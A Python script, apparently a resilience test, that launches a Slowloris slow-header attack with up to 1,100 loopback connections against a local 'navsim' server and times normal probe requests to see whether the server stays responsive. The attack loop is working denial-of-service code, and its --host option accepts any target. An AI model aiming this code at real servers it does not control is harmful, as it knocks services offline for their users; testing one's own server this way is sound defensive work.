#!/usr/bin/env python3
"""Slowloris against a running navsim, while timing normal requests.

Opens --connections sockets that each send a request head one byte every --interval seconds
(and reconnect when the server closes them, as an attacker would), spread over --sources
loopback source addresses 127.0.0.2, 127.0.0.3, ... (or all from 127.0.0.1 with --sources 0).
Meanwhile a prober sends normal requests from 127.0.0.1, one connection each, and counts those
answered within --deadline seconds. Everything is bounded: --duration seconds in all, at most
--probes probe requests.

Exit status 0 when at least --min-ratio of the probes were answered in time, 1 otherwise,
2 on a usage or connection error. Standard library only.

  scripts/slowloris.py --port 8080 --connections 1100 --duration 30
"""
import argparse
import http.client
import selectors
import socket
import sys
import threading
import time


def attacker_addresses(sources):
    if sources == 0:
        return ["127.0.0.1"]
    return ["127.0.%d.%d" % ((i + 2) // 256, (i + 2) % 256) for i in range(sources)]


class Attack:
    """Non-blocking slow senders, all on one thread."""

    HEAD = b"GET /v1/sessions HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000

    def __init__(self, host, port, count, sources, interval):
        self.host, self.port, self.interval = host, port, interval
        self.addresses = attacker_addresses(sources)
        self.count = count
        self.selector = selectors.DefaultSelector()
        self.sockets = {}  # socket -> [bytes sent, next send time]
        self.opened = self.closed_by_server = self.refused = 0
        self.stop = threading.Event()

    def connect(self, i):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((self.addresses[i % len(self.addresses)], 0))
            s.connect_ex((self.host, self.port))
        except OSError:
            s.close()
            self.refused += 1
            return
        self.sockets[s] = [0, time.monotonic() + self.interval * (i % 10) / 10]
        self.selector.register(s, selectors.EVENT_READ)
        self.opened += 1

    def drop(self, s):
        self.selector.unregister(s)
        del self.sockets[s]
        s.close()

    def run(self):
        for i in range(self.count):
            self.connect(i)
        n = self.count
        while not self.stop.is_set():
            for key, _ in self.selector.select(timeout=0.2):
                s = key.fileobj
                try:
                    data = s.recv(4096)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    data = b""
                # Any reply or end of stream: the server gave up on this one. Come back.
                self.closed_by_server += 1
                self.drop(s)
                self.connect(n)
                n += 1
            now = time.monotonic()
            for s, state in list(self.sockets.items()):
                if state[1] <= now:
                    try:
                        s.send(self.HEAD[state[0] % len(self.HEAD):][:1])
                        state[0] += 1
                    except (BlockingIOError, InterruptedError):
                        pass
                    except OSError:
                        pass  # not connected yet, or reset: the read side notices
                    state[1] = now + self.interval
        for s in list(self.sockets):
            self.drop(s)


def probe(host, port, deadline, path, token):
    started = time.monotonic()
    c = http.client.HTTPConnection(host, port, timeout=deadline)
    try:
        headers = {"Authorization": "Bearer " + token} if token else {}
        c.request("GET", path, headers=headers)
        r = c.getresponse()
        r.read()
        ok = r.status < 500
    except (OSError, http.client.HTTPException):
        ok = False
    finally:
        c.close()
    elapsed = time.monotonic() - started
    return ok and elapsed <= deadline, elapsed


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=1100)
    p.add_argument("--sources", type=int, default=100, help="attacker source addresses (0: all from 127.0.0.1)")
    p.add_argument("--interval", type=float, default=2.0, help="seconds between an attacker's bytes")
    p.add_argument("--duration", type=float, default=30.0, help="seconds of attack in all (cap 300)")
    p.add_argument("--warmup", type=float, default=3.0, help="seconds between opening the attack and the first probe")
    p.add_argument("--probes", type=int, default=200, help="probe requests at most")
    p.add_argument("--deadline", type=float, default=2.0, help="seconds a probe may take")
    p.add_argument("--path", default="/healthz")
    p.add_argument("--token", default=None, help="bearer token for the probes")
    p.add_argument("--min-ratio", type=float, default=0.95)
    args = p.parse_args()
    duration = min(args.duration, 300.0)

    try:
        socket.create_connection((args.host, args.port), timeout=2).close()
    except OSError as e:
        print("cannot reach %s:%d: %s" % (args.host, args.port, e), file=sys.stderr)
        return 2

    attack = Attack(args.host, args.port, args.connections, args.sources, args.interval)
    thread = threading.Thread(target=attack.run, daemon=True)
    started = time.monotonic()
    thread.start()
    time.sleep(min(args.warmup, duration))

    results = []
    spacing = max(0.0, (duration - args.warmup) / max(1, args.probes))
    while len(results) < args.probes and time.monotonic() - started < duration:
        results.append(probe(args.host, args.port, args.deadline, args.path, args.token))
        time.sleep(spacing)
    attack.stop.set()
    thread.join(timeout=10)

    answered = sum(1 for ok, _ in results if ok)
    times = sorted(t for _, t in results)
    ratio = answered / len(results) if results else 0.0
    p50 = times[len(times) // 2] if times else 0.0
    p95 = times[min(len(times) - 1, int(len(times) * 0.95))] if times else 0.0
    print("attack: %d connections from %d source address(es), a byte every %.1f s; "
          "%d opened, %d closed by the server, %d could not connect"
          % (args.connections, len(attack.addresses), args.interval, attack.opened, attack.closed_by_server, attack.refused))
    print("probes: %d of %d answered within %.1f s (%.1f%%); p50 %.3f s, p95 %.3f s"
          % (answered, len(results), args.deadline, 100 * ratio, p50, p95))
    return 0 if ratio >= args.min_ratio else 1


if __name__ == "__main__":
    sys.exit(main())
